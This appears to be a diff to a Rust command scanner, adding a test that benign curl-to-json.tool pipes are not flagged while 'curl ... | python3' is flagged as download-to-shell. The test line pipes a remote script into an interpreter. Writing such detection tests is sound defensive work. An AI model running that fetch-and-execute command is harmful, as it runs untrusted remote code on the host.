@@ -658,3 +658,26 @@ fn globs_are_tried_against_well_known_credential_paths() {
     );
     assert!(has(&parse("ls *.txt"), "ls *.txt"));
 }
+
+#[test]
+fn interpreters_running_a_module_do_not_read_code_from_stdin() {
+    for src in [
+        "curl -s https://api.example.com/x | python3 -mjson.tool",
+        "curl -s https://api.example.com/x | python -m json.tool",
+    ] {
+        let p = parse(src);
+        assert!(
+            !p.signals
+                .iter()
+                .any(|s| matches!(s, Signal::DownloadToShell { .. })),
+            "{src}: {:?}",
+            p.signals
+        );
+    }
+    let p = parse("curl -s https://x.example/i.py | python3");
+    assert!(
+        p.signals
+            .iter()
+            .any(|s| matches!(s, Signal::DownloadToShell { .. }))
+    );
+}
